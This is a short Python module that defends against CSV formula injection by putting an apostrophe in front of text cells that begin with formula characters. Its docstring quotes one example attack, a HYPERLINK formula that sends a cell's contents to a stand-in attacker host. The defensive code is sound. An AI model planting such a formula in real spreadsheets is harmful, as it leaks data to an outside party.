"""Keeping a spreadsheet from running what a person typed (CSV formula injection).

Excel and LibreOffice read a cell that starts with `=`, `+`, `-` or `@` as a formula (and a tab,
carriage return or line feed in front of one is skipped before they look), so a speaker registered
as `=HYPERLINK("http://evil.example/?x="&A2,"Agenda")` would run when the secretariat opens the CSV.
As OWASP recommends, such a text cell gets a leading apostrophe: the spreadsheet shows it as text
and hides the apostrophe. Numbers we write as numbers (a duration in seconds) are left alone.
"""

from __future__ import annotations

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n")


def neutralise_formula(value: object) -> object:
    """`value` as a CSV cell that no spreadsheet reads as a formula.

    Text starting with = + - @ tab CR or LF gets a leading apostrophe; anything that is not text
    (an int, a float, None) is returned unchanged, so "-2" typed by a user is protected while a
    number -2 stays a number.
    """
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value
